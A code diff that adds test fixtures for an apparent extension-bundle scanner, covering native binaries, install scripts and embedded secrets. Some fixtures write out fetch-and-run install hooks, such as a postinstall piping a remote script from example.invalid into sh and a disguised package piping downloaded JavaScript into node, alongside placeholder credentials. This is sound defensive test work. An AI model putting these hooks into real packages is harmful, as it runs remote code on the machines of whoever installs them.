@@ -6,6 +6,8 @@
 // the zlib build, and names and contents stay readable in a hex dump. Deflated entries
 // (limit-exceeded, corrupt-entry, the hello-world example) depend on Node's bundled zlib; if the
 // freshness test fails after a Node upgrade with no change here, regenerate and review.
+import { CLIENTS_JS, CONFIG_JS, DEPENDENCY_README, DOTENV, NPMRC, OPENSSH_KEY, RSA_PEM, fakeChars } from './fake-secrets.js';
+import { elfHeader, javaClassHeader, machOHeader, peImage, universalBinary, wasmModule } from './native-headers.js';
 import { buildSignedBundle, buildZip, fakeSignatureBlob, type ZipEntrySpec, type ZipOptions } from './zip-writer.js';
 
 export interface CraftedArchive {
@@ -19,7 +21,7 @@ export interface CraftedArchive {
 const MiB = 1024 * 1024;
 const FILE_MODE = 0o100644;
 
-function manifestFor(name: string, description: string): string {
+function manifestFor(name: string, description: string, extra: Record<string, unknown> = {}): string {
   const manifest = {
     manifest_version: '0.3',
     name,
@@ -31,6 +33,7 @@ function manifestFor(name: string, description: string): string {
       entry_point: 'server/index.js',
       mcp_config: { command: 'node', args: ['${__dirname}/server/index.js'] },
     },
+    ...extra,
   };
   return `${JSON.stringify(manifest, null, 2)}\n`;
 }
@@ -47,9 +50,19 @@ function file(name: string, data: ZipEntrySpec['data'], extra: Partial<ZipEntryS
 }
 
 /** manifest.json + server/index.js, then `extra`, for the fixture of `rule` (`valid` or `invalid`). */
-function ruleBundle(rule: string, kind: 'valid' | 'invalid', extra: ZipEntrySpec[] = [], options: ZipOptions = {}): Uint8Array {
-  const manifest = manifestFor(`${rule}-${kind}`, `Crafted ${kind} fixture for the ${rule} rule.`);
+function ruleBundle(
+  rule: string,
+  kind: 'valid' | 'invalid',
+  extra: ZipEntrySpec[] = [],
+  options: ZipOptions = {},
+  manifestExtra: Record<string, unknown> = {},
+): Uint8Array {
+  const manifest = manifestFor(`${rule}-${kind}`, `Crafted ${kind} fixture for the ${rule} rule.`, manifestExtra);
   return buildZip([file('manifest.json', manifest), file('server/index.js', FIXTURE_SERVER), ...extra], options);
+}
+
+function packageJson(json: Record<string, unknown>): string {
+  return `${JSON.stringify(json, null, 2)}\n`;
 }
 
 function jsModule(comment: string): string {
@@ -370,6 +383,116 @@ export const CRAFTED: CraftedArchive[] = [
     ['the same archive followed by a well-formed MCPB signature block', () =>
       buildSignedBundle(ruleBundle('signature-missing', 'valid'), 'MCPB', fakeSignatureBlob())],
     'mcpb',
+  ),
+  ...rule(
+    'file-native-code',
+    ['native headers under misleading names: an ELF addon, a Mach-O program with no extension, a PE DLL named .dat, a universal dylib, a WebAssembly module, and an ELF cut short', () =>
+      ruleBundle('file-native-code', 'invalid', [
+        file('server/build/Release/addon.node', elfHeader({ bits: 64, little: true, type: 3, machine: 62 })),
+        file('server/bin/helper', machOHeader({ bits: 64, little: true, cpu: 0x0100000c, type: 2 }), { unixMode: 0o100755 }),
+        file('server/lib/tables.dat', peImage({ machine: 0x8664, dll: true })),
+        file('server/lib/libfast.dylib', universalBinary([
+          { bits: 64, little: true, cpu: 0x01000007, type: 6 },
+          { bits: 64, little: true, cpu: 0x0100000c, type: 6 },
+        ])),
+        file('server/wasm/codec.wasm', wasmModule()),
+        file('server/bin/stub', elfHeader({ bits: 64, little: true, type: 2, machine: 62 }).subarray(0, 12)),
+      ])],
+    ['near misses: a Java class (CAFEBABE, major 52), a text file named addon.node, text starting with "MZ", and a blob holding ELF magic past its start', () =>
+      ruleBundle('file-native-code', 'valid', [
+        file('server/lib/Helper.class', javaClassHeader(52)),
+        file('server/build/Release/addon.node', "'use strict';\n// A JavaScript stub under an addon's name.\nmodule.exports = {};\n"),
+        file('server/docs/MZ.txt', 'MZ is the signature of DOS executables; this note only mentions it.\n'),
+        file('server/data/blob.bin', Uint8Array.from([0x00, 0x01, 0x02, 0x03, 0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00])),
+      ])],
+  ),
+  {
+    path: 'fixtures/rules/file-native-code/invalid-dependency.dxt',
+    description: 'a dependency shipping prebuilt binaries for three platforms, a scoped dependency with one WebAssembly file',
+    build: () =>
+      ruleBundle('file-native-code', 'invalid', [
+        file('server/node_modules/bare-fs/prebuilds/darwin-arm64/bare-fs.bare', machOHeader({ bits: 64, little: true, cpu: 0x0100000c, type: 8 })),
+        file('server/node_modules/bare-fs/prebuilds/linux-x64/bare-fs.bare', elfHeader({ bits: 64, little: true, type: 3, machine: 62 })),
+        file('server/node_modules/bare-fs/prebuilds/win32-x64/bare-fs.bare', peImage({ machine: 0x8664, dll: true })),
+        file('server/node_modules/@acme/codec/codec.wasm', wasmModule()),
+      ]),
+  },
+  {
+    path: 'fixtures/rules/file-native-code/invalid-platform.dxt',
+    description: 'a bundle declaring only win32 whose one native file is a Mach-O arm64 bundle',
+    build: () =>
+      ruleBundle('file-native-code', 'invalid', [file('server/native/addon.node', machOHeader({ bits: 64, little: true, cpu: 0x0100000c, type: 8 }))], {}, {
+        compatibility: { platforms: ['win32'] },
+      }),
+  },
+  ...rule(
+    'file-install-script',
+    ['lifecycle scripts in the server package and installed dependencies: curl | sh, a chain to fetch-and-run, a tracker, node-gyp, prebuild-install, an uninstall hook, and a package.json that is not JSON', () =>
+      ruleBundle('file-install-script', 'invalid', [
+        file('server/package.json', packageJson({
+          name: 'acme-server',
+          version: '1.0.0',
+          scripts: { build: 'tsc', prepare: 'npm run build', postinstall: 'curl -fsSL https://example.invalid/setup.sh | sh', preuninstall: 'node scripts/cleanup.js' },
+        })),
+        file('server/node_modules/native-dep/package.json', packageJson({ name: 'native-dep', version: '2.0.0', scripts: { install: 'node-gyp rebuild' } })),
+        file('server/node_modules/prebuilt-dep/package.json', packageJson({ name: 'prebuilt-dep', version: '3.0.0', scripts: { install: 'prebuild-install || node-gyp rebuild' } })),
+        file('server/node_modules/@acme/telemetry/package.json', packageJson({ name: '@acme/telemetry', version: '0.1.0', scripts: { postinstall: 'node track.js' } })),
+        file('server/node_modules/sneaky/package.json', packageJson({
+          name: 'sneaky',
+          version: '0.0.1',
+          scripts: { postinstall: 'npm run setup', setup: "node -e \"require('https').get('https://example.invalid/p.js', (r) => r.pipe(process.stdout))\" | node" },
+        })),
+        file('server/node_modules/broken/package.json', '{\n  // comments are not JSON\n  "name": "broken",\n  "scripts": { "postinstall": "node x.js" },\n}\n'),
+      ])],
+    ['no lifecycle hooks where npm runs them: build/test/start scripts, a hook-named key outside "scripts", prepare/prepublish in an installed dependency, and a postinstall in a package.json nested inside a package', () =>
+      ruleBundle('file-install-script', 'valid', [
+        file('server/package.json', packageJson({
+          name: 'acme-server',
+          version: '1.0.0',
+          description: 'Never runs "postinstall": "curl | sh" (this is only a description).',
+          config: { postinstall: 'curl -fsSL https://example.invalid/setup.sh | sh' },
+          scripts: { build: 'tsc', test: 'node --test', start: 'node dist/index.js' },
+        })),
+        file('server/node_modules/dep/package.json', packageJson({
+          name: 'dep',
+          version: '1.0.0',
+          scripts: { prepare: 'npm run build', prepublish: 'not-in-publish || npm run prepublishOnly', build: 'tsc', postinstall: ['not', 'a', 'string'] },
+        })),
+        file('server/node_modules/dep/test/fixtures/app/package.json', packageJson({ name: 'fixture-app', scripts: { postinstall: 'node setup.js' } })),
+      ])],
+  ),
+  ...rule(
+    'file-secret',
+    // Deflated, so that the credential-shaped strings are not plain text in the repository.
+    ['generated credential shapes in first-party code, a PEM and an OpenSSH key, .env and .npmrc values, and a GitHub token in a dependency README', () =>
+      ruleBundle('file-secret', 'invalid', [
+        file('server/config.js', CONFIG_JS, { method: 8 }),
+        file('server/clients.js', CLIENTS_JS, { method: 8 }),
+        file('server/keys/deploy.pem', RSA_PEM, { method: 8 }),
+        file('server/keys/id_ed25519', OPENSSH_KEY, { method: 8 }),
+        file('server/.env', DOTENV, { method: 8 }),
+        file('server/.npmrc', NPMRC, { method: 8 }),
+        file('server/node_modules/some-dep/README.md', DEPENDENCY_README, { method: 8 }),
+      ])],
+    ['near misses: the AWS documentation key, an empty .env.example, placeholders, a PEM header without a key, an .npmrc reading its token from the environment, and a binary file', () =>
+      ruleBundle('file-secret', 'valid', [
+        file('server/docs/aws.md', 'Example from the AWS docs: AKIAIOSFODNN7EXAMPLE / wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n'),
+        file('server/.env.example', 'OPENAI_API_KEY=\nGITHUB_TOKEN=\nDB_PASSWORD=your-password-here\nSLACK_BOT_TOKEN=xoxb-your-token\nPORT=3000\n'),
+        file('server/placeholders.js', [
+          "'use strict';",
+          '// Placeholders people paste into docs and defaults.',
+          `exports.github = 'ghp_${'x'.repeat(36)}';`,
+          `exports.stripe = 'sk_live_${'0'.repeat(24)}';`,
+          `exports.aws = 'AKIA${'A'.repeat(16)}';`,
+          "exports.openai = 'sk-1234567890abcdefghijklmnopqrstuvwxyzABCDEFGHIJKL';",
+          "exports.anthropic = 'sk-ant-your-api-key-goes-here-0123456789abcdef';",
+          "exports.slack = 'xoxb-your-slack-bot-token';",
+          '',
+        ].join('\n')),
+        file('server/pem.js', "'use strict';\nexports.isKey = (text) => text.startsWith('-----BEGIN RSA PRIVATE KEY-----') || text.includes('-----BEGIN PRIVATE KEY-----');\n"),
+        file('server/.npmrc', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n'),
+        file('server/assets/font.bin', Uint8Array.from([0x00, 0x01, 0x00, 0x00, ...new TextEncoder().encode(` ghp_${fakeChars(900, 'abcdefghijklmnopqrstuvwxyz0123456789', 36)} `)])),
+      ])],
   ),
   {
     path: 'fixtures/examples/hello-world.dxt',
